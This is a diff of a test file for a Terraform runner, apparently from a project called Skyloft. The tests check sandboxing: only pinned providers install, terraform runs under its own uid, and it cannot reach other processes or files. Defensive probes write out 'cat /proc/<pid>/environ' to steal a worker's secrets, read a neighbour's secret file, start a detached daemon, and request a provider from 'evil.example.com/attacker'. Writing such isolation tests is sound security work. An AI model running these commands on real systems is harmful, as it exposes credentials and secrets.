@@ -1,15 +1,19 @@
+import { execFile, spawn } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import { existsSync, readFileSync } from 'node:fs';
-import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo, Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterEach, describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import {
   apply,
   createRedactor,
   createWorkdir,
   destroy,
   init,
+  isolationWarning,
   output,
   plan,
   pushErroredState,
@@ -22,8 +26,17 @@ import {
   type TerraformSettings,
   type Workdir,
 } from '../../src/clouds/terraform/index.ts';
+import { claimUid } from '../../src/clouds/terraform/uids.ts';
+import { DEFAULT_TERRAFORM_UID_BASE, TERRAFORM_UID_SPAN } from '../../src/config/index.ts';
+import { INSTALLABLE_PROVIDER_ADDRESSES } from '../../stacks/providers.ts';
+import { workerTempDir } from '../../workers/workdirs.ts';
 
-const settings: TerraformSettings = { bin: 'terraform', providerMirror: undefined, stepTimeoutMs: 60_000 };
+const settings: TerraformSettings = {
+  bin: 'terraform',
+  providerMirror: undefined,
+  stepTimeoutMs: 60_000,
+  uidBase: DEFAULT_TERRAFORM_UID_BASE,
+};
 const workdirs: Workdir[] = [];
 afterEach(async () => {
   await Promise.all(workdirs.splice(0).map((w) => w.dispose()));
@@ -37,7 +50,7 @@ async function moduleWith(config: object, extra: Partial<StepOptions> = {}) {
   await mkdir(dir);
   await writeModule(dir, config);
   const chunks: string[] = [];
-  const opts: StepOptions = { terraform: settings, workdir: wd.dir, onOutput: (t) => chunks.push(t), ...extra };
+  const opts: StepOptions = { terraform: settings, workdir: wd.dir, uid: wd.uid, onOutput: (t) => chunks.push(t), ...extra };
   return { wd, dir, opts, logged: () => chunks.join('') };
 }
 
@@ -188,8 +201,8 @@ describe('the terraform runner', () => {
       expect(Object.keys(env).filter((k) => !(k in opts.env!) && !addedByShell.includes(k)).sort()).toEqual(
         ['CHECKPOINT_DISABLE', 'HOME', 'PATH', 'TF_CLI_CONFIG_FILE', 'TF_INPUT', 'TF_IN_AUTOMATION'].sort(),
       );
-      // This machine points TF_CLI_CONFIG_FILE at a missing file; ours is empty: terraform has nothing to warn about.
-      expect(await readFile(join(wd.dir, 'terraform.rc'), 'utf8')).toBe('');
+      // This machine points TF_CLI_CONFIG_FILE at a missing file; ours is valid: terraform has nothing to warn about.
+      expect(await readFile(join(wd.dir, 'terraform.rc'), 'utf8')).toBe(renderCliConfig(undefined));
       expect(logged()).not.toContain('CLI configuration');
     } finally {
       for (const [name, value] of [['SKYLOFT_MASTER_KEY', saved.key], ['DATABASE_URL', saved.db]] as const) {
@@ -304,23 +317,241 @@ describe('the work directory', () => {
     await expect(wd.dispose()).resolves.toBeUndefined();
   });
 
-  it('writes a CLI config that installs providers from the mirror only', async () => {
+  it('writes a CLI config that installs only the pinned providers, from the mirror when there is one', async () => {
+    const list = INSTALLABLE_PROVIDER_ADDRESSES.map((a) => JSON.stringify(a)).join(', ');
+    expect(list).toContain('"registry.terraform.io/hashicorp/aws"');
+    expect(renderCliConfig(undefined)).toBe(`provider_installation {\n  direct {\n    include = [${list}]\n  }\n}\n`);
+
     const mirror = await mkdtemp(join(tmpdir(), 'skyloft-mirror-'));
+    await chmod(mirror, 0o755); // terraform's uid reads the mirror
     try {
       const { wd, dir, opts } = await moduleWith(
-        { terraform: { required_providers: { fake: { source: 'example.com/skyloft/fake' } } } },
+        { terraform: { required_providers: { aws: { source: 'hashicorp/aws' } } } },
         { terraform: { ...settings, providerMirror: mirror } },
       );
       const err = await init(dir, opts).catch((e: unknown) => e);
       expect(await readFile(join(wd.dir, 'terraform.rc'), 'utf8')).toBe(
-        `provider_installation {\n  filesystem_mirror {\n    path = "${mirror}"\n  }\n}\n`,
+        `provider_installation {\n  filesystem_mirror {\n    path    = "${mirror}"\n    include = [${list}]\n  }\n}\n`,
       );
-      // Terraform looked in the mirror (and nowhere else, offline or not) for the provider.
+      // A pinned provider: terraform looked for it in the mirror (empty here), and nowhere else.
       expect(err).toBeInstanceOf(TerraformError);
       expect((err as TerraformError).outputTail).toContain(mirror);
-      expect(renderCliConfig(undefined)).toBe('');
     } finally {
       await rm(mirror, { recursive: true, force: true });
+    }
+  });
+
+  it('never installs a provider outside the pinned set, nor asks its host for it', async () => {
+    // A stand-in for the network: terraform sends every registry request through HTTPS_PROXY; this records them.
+    const asked: string[] = [];
+    const proxy = createServer((req, res) => {
+      asked.push(`${req.method} ${req.url}`);
+      res.writeHead(502).end();
+    });
+    proxy.on('connect', (req: { url?: string }, socket: Socket) => {
+      asked.push(`CONNECT ${req.url}`);
+      socket.destroy();
+    });
+    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
+    const HTTPS_PROXY = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
+    const evil = {
+      terraform: { required_providers: { evil: { source: 'evil.example.com/attacker/evil' } } },
+      ...data({ a: { input: 'x' } }),
+    };
+    const mirror = await mkdtemp(join(tmpdir(), 'skyloft-mirror-'));
+    await chmod(mirror, 0o755);
+    try {
+      // The probe works: terraform with an empty CLI config (the old behaviour) goes to the provider's host.
+      const control = await mkdtemp(join(tmpdir(), 'skyloft-control-'));
+      try {
+        await writeModule(control, evil);
+        await writeFile(join(control, 'empty.rc'), '');
+        const env = { PATH: process.env.PATH!, HOME: control, TF_CLI_CONFIG_FILE: join(control, 'empty.rc'), CHECKPOINT_DISABLE: '1', HTTPS_PROXY };
+        await new Promise((r) => execFile('terraform', ['init', '-no-color', '-input=false'], { cwd: control, env, timeout: 30_000 }, r));
+        expect(asked).toContain('CONNECT evil.example.com:443');
+      } finally {
+        await rm(control, { recursive: true, force: true });
+      }
+      asked.length = 0;
+
+      for (const providerMirror of [undefined, mirror]) {
+        const { dir, opts } = await moduleWith(evil, { terraform: { ...settings, providerMirror }, env: { HTTPS_PROXY } });
+        const err = await init(dir, opts).catch((e: unknown) => e);
+        expect(err).toBeInstanceOf(TerraformError);
+        expect((err as TerraformError).outputTail.replace(/\s+/g, ' ')).toContain(
+          'provider evil.example.com/attacker/evil was not found in any of the search locations',
+        );
+      }
+      expect(asked).toEqual([]);
+    } finally {
+      proxy.close();
+      await rm(mirror, { recursive: true, force: true });
+    }
+  });
+});
+
+/** Starts a process whose environment holds Skyloft's secrets, as a worker's does; ended by its own pid. */
+function fakeWorker(secret: string) {
+  const child = spawn('/bin/sleep', ['60'], { env: { SKYLOFT_MASTER_KEY: secret, DATABASE_URL: `postgres://u:${secret}@db/x` } });
+  return { pid: child.pid!, stop: () => child.kill('SIGKILL') };
+}
+
+/** Waits (up to 2 s) for a SIGKILLed process to be gone. */
+async function gone(pid: number): Promise<boolean> {
+  for (let i = 0; i < 40 && isRunning(pid); i++) await new Promise((r) => setTimeout(r, 50));
+  return !isRunning(pid);
+}
+
+/**
+ * CI and the container image run as root, where terraform must be isolated; anywhere else each test asserts the
+ * documented fallback instead, so neither is ever skipped.
+ */
+describe('what terraform runs as', () => {
+  const root = process.getuid!() === 0;
+
+  it('as root: each work directory under its own uid, with no-new-privs, shut out of everything else', async () => {
+    if (!root) {
+      // The fallback: the worker's own user, and a warning saying how to isolate terraform.
+      expect(isolationWarning()).toMatch(/terraform is not isolated.*Run the worker as root/s);
+      const { wd, dir, opts, logged } = await moduleWith(data({ probe: localExec('id -u') }));
+      expect(wd.uid).toBeUndefined();
+      await init(dir, opts);
+      await plan(dir, opts);
+      await apply(dir, opts);
+      expect(logged()).toContain(`probe (local-exec): ${process.getuid!()}\n`);
+      return;
+    }
+    expect(isolationWarning()).toBeUndefined();
+    // The parent as a worker makes it (workers/workdirs.ts): 0711, in a temp dir of this test's own.
+    const testTmp = await mkdtemp(join(tmpdir(), 'skyloft-isolation-'));
+    // mkdtemp's 0700 would keep terraform's uid out of its own work directory: refused, saying why.
+    await expect(createWorkdir({ parent: testTmp })).rejects.toThrow(`${testTmp} does not let other users through`);
+    await chmod(testTmp, 0o711); // as /tmp: every folder above a work directory must let its uid through
+    const savedTmp = process.env.TMPDIR;
+    process.env.TMPDIR = testTmp;
+    let parent: string;
+    try {
+      parent = workerTempDir();
+    } finally {
+      // Restored at once: uid claims must stay in the machine's shared registry.
+      if (savedTmp === undefined) delete process.env.TMPDIR;
+      else process.env.TMPDIR = savedTmp;
+    }
+    expect((await stat(parent)).mode & 0o777).toBe(0o711);
+    const secret = randomBytes(24).toString('hex');
+    const worker = fakeWorker(secret);
+    try {
+      const other = await createWorkdir({ parent });
+      workdirs.push(other);
+      const neighbour = join(other.dir, 'module', 'secret.txt');
+      await mkdir(join(other.dir, 'module'));
+      await writeFile(neighbour, secret);
+
+      const daemon = 'setsid sleep 30 >/dev/null 2>&1 < /dev/null & echo $! > daemon.pid';
+      const cmd = [
+        'id -u',
+        'grep NoNewPrivs /proc/self/status',
+        `ls ${parent} || echo "listing the parent failed"`,
+        `cat ${neighbour} || echo "reading the neighbour failed"`,
+        daemon,
+      ].join('; ');
+      const wd = await createWorkdir({ parent });
+      workdirs.push(wd);
+      const dir = join(wd.dir, 'module');
+      await mkdir(dir);
+      await writeModule(dir, data({ probe: localExec(cmd) }));
+      const chunks: string[] = [];
+      const opts: StepOptions = { terraform: settings, workdir: wd.dir, uid: wd.uid, onOutput: (t) => chunks.push(t) };
+      // Both directories in use at once: the neighbour's terraform runs while this one does.
+      const otherOpts = { ...opts, workdir: other.dir, uid: other.uid, onOutput: undefined };
+      await Promise.all([init(dir, opts), init(join(other.dir, 'module'), otherOpts)]);
+      await plan(dir, opts);
+      await apply(dir, opts);
+      const out = chunks.join('');
+
+      expect(wd.uid).toBeGreaterThanOrEqual(DEFAULT_TERRAFORM_UID_BASE);
+      expect(other.uid).not.toBe(wd.uid);
+      expect(out).toContain(`probe (local-exec): ${wd.uid}\n`);
+      expect(out).toMatch(/NoNewPrivs:\s+1/);
+      expect(out).toMatch(/ls: cannot open directory .*: Permission denied/);
+      expect(out).toMatch(/cat: .*secret\.txt: Permission denied/);
+      expect(out).toContain('reading the neighbour failed');
+      expect(out).not.toContain(secret);
+      expect((await stat(wd.dir)).uid).toBe(wd.uid);
+      expect((await stat(wd.dir)).mode & 0o777).toBe(0o700);
+      expect((await stat(join(dir, 'main.tf.json'))).uid).toBe(wd.uid); // the worker's file, handed over
+      // A daemon a local-exec left behind (outside terraform's process group) does not live into the next step.
+      const first = Number(await readFile(join(dir, 'daemon.pid'), 'utf8'));
+      expect(isRunning(first)).toBe(true);
+
+      // The environment of a worker (this test process, and a stand-in holding the secrets) is out of reach.
+      for (const pid of [process.pid, worker.pid]) {
+        await writeModule(dir, data({ steal: localExec(`cat /proc/${pid}/environ`) }));
+        await plan(dir, opts);
+        expect(await gone(first)).toBe(true);
+        const err = await apply(dir, opts).catch((e: unknown) => e);
+        expect(err).toBeInstanceOf(TerraformError);
+        const tail = (err as TerraformError).outputTail;
+        expect(tail).toContain(`cat: /proc/${pid}/environ: Permission denied`);
+        expect(tail).not.toContain(secret);
+        expect(tail).not.toContain('SKYLOFT_MASTER_KEY');
+        for (const entry of (await readFile(`/proc/${pid}/environ`, 'utf8')).split('\0').filter((e) => e.length > 8)) {
+          expect(chunks.join('')).not.toContain(entry);
+        }
+      }
+
+      // Nor does one outlive its work directory (whose uid goes to the next one).
+      await writeModule(dir, data({ again: localExec(daemon) }));
+      await plan(dir, opts);
+      await apply(dir, opts);
+      const last = Number(await readFile(join(dir, 'daemon.pid'), 'utf8'));
+      expect(isRunning(last)).toBe(true);
+      await wd.dispose();
+      expect(await gone(last)).toBe(true);
+
+      // The worker itself never runs terraform as root.
+      await expect(runTerraform(['version'], { ...opts, uid: undefined, cwd: other.dir })).rejects.toThrow(
+        /refusing to run terraform as root/,
+      );
+    } finally {
+      worker.stop();
+      await Promise.all(workdirs.splice(0).map((w) => w.dispose()));
+      await rm(testTmp, { recursive: true, force: true });
+    }
+  });
+
+  it('as root: never gives one uid to two live claims, even across processes', async () => {
+    if (!root) {
+      const wd = await createWorkdir();
+      workdirs.push(wd);
+      expect(wd.uid).toBeUndefined(); // no uids to give: terraform runs as the worker
+      return;
+    }
+    const base = DEFAULT_TERRAFORM_UID_BASE;
+    const registry = join(tmpdir(), 'skyloft-terraform-uids');
+    // Another live process (a stand-in) holds `base`; a dead one held `base + 1` and left its folder behind.
+    const holder = spawn('/bin/sleep', ['60']);
+    const stat22 = (await readFile(`/proc/${holder.pid}/stat`, 'utf8')).split(') ')[1]!.split(' ')[19];
+    const live = join(registry, `${holder.pid}-${stat22}`);
+    const dead = join(registry, '999999999-1');
+    await mkdir(join(live, String(base)), { recursive: true });
+    await mkdir(join(dead, String(base + 1)), { recursive: true });
+    const random = vi.spyOn(Math, 'random');
+    try {
+      random.mockReturnValueOnce(0).mockReturnValueOnce(1 / TERRAFORM_UID_SPAN);
+      const claim = await claimUid(base);
+      expect(claim.uid).toBe(base + 1); // base was skipped; the dead process's claim did not count, and is swept
+      expect(existsSync(dead)).toBe(false);
+      expect(existsSync(live)).toBe(true);
+      await claim.release();
+      random.mockRestore();
+      const many = await Promise.all(Array.from({ length: 20 }, () => createWorkdir()));
+      workdirs.push(...many);
+      expect(new Set(many.map((w) => w.uid)).size).toBe(20);
+    } finally {
+      random.mockRestore();
+      holder.kill('SIGKILL');
+      await rm(live, { recursive: true, force: true });
     }
   });
 });
